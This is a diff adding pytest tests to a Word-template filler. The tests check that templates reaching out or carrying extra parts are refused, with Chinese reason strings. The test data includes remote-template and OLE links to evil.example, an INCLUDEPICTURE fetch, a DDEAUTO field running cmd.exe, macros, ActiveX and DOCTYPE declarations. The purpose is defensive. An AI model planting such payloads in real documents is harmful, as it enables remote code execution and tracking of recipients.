@@ -133,6 +133,69 @@ async def test_an_endless_loop_is_given_up(monkeypatch: pytest.MonkeyPatch) -> N
         await print_docx(docx(loop), VALUES)
 
 
+# --- what reaches out of the document, or brings more along -----------------------------------------------
+
+OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+
+
+def altered(change: dict[str, tuple[str, str]], **more: bytes) -> bytes:
+    """Return a template in whose parts (`word/document.xml`) something was replaced, with more parts."""
+    given, out = zipfile.ZipFile(io.BytesIO(docx("{{ 单位 }}"))), io.BytesIO()
+    with zipfile.ZipFile(out, "w") as file:
+        for name in given.namelist():
+            old, new = change.get(name, ("", ""))
+            text = given.read(name)
+            assert old.encode() in text
+            file.writestr(name, text.replace(old.encode(), new.encode(), 1) if old else text)
+        for name, data in more.items():
+            file.writestr(name, data)
+    return out.getvalue()
+
+
+def reaching(kind: str, target: str, mode: str = "External") -> bytes:
+    """Return a template with one more relationship."""
+    link = f'<Relationship Id="rId99" Type="{OFFICE}/{kind}" Target="{target}" TargetMode="{mode}"/>'
+    return altered({"word/_rels/document.xml.rels": ("</Relationships>", f"{link}</Relationships>")})
+
+
+def field(code: str) -> bytes:
+    """Return a template with a field that Word works out, in two runs as Word writes it."""
+    half = len(code) // 2
+    runs = "".join(f"<w:r><w:instrText>{part}</w:instrText></w:r>" for part in (code[:half], code[half:]))
+    return altered({"word/document.xml": ("</w:p>", f"{runs}</w:p>")})
+
+
+FOREIGN = {
+    "another template": (reaching("attachedTemplate", "http://evil.example/x.dotm"), "外部链接（附加模板 http://evil"),
+    "a picture elsewhere": (reaching("image", "file://server/share/x.png"), "外部链接（图片 file://server"),
+    "an object elsewhere": (reaching("oleObject", "http://evil.example/x.xls"), "外部链接（OLE 对象 http"),
+    "something unknown elsewhere": (reaching("frame", "http://evil.example/"), "外部链接（frame http"),
+    "a text part elsewhere": (reaching("aFChunk", "/word/x.html", "Internal"), "嵌入"),
+    "an object inside": (altered({}, **{"word/embeddings/oleObject1.bin": b"x"}), "嵌入的对象（word/embeddings/"),
+    "a control inside": (altered({}, **{"word/activeX/activeX1.xml": b"<x/>"}), "嵌入的对象（word/activeX/"),
+    "macros": (altered({}, **{"word/vbaProject.bin": b"x"}), "有宏"),
+    "a field that fetches": (field(' INCLUDEPICTURE "http://evil.example/x.png" '), "域 INCLUDEPICTURE"),
+    "a field that runs": (field(' DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc" '), "域 DDEAUTO"),
+    "a document type": (altered({"word/document.xml": ("<w:document", "<!DOCTYPE a><w:document")}), "DOCTYPE"),
+    "a document type in other letters": (
+        altered({}, **{"word/x.xml": '<?xml version="1.0"?><!DOCTYPE a><a/>'.encode("utf-16")}),
+        "DOCTYPE",
+    ),
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("case", FOREIGN)
+def test_a_template_that_reaches_out_or_brings_more_along_is_refused_with_what(case: str) -> None:
+    template, why = FOREIGN[case]
+    assert why in refusal(template)
+
+
+def test_a_link_to_be_pressed_and_a_page_number_are_no_harm() -> None:
+    assert refusal(reaching("hyperlink", "https://www.gov.cn/")) == ""
+    assert refusal(field(" PAGE ")) == ""
+    assert refusal(field(' HYPERLINK "https://www.gov.cn/" ')) == ""
+
+
 # --- trials -----------------------------------------------------------------------------------------------
 
 LOSING = {
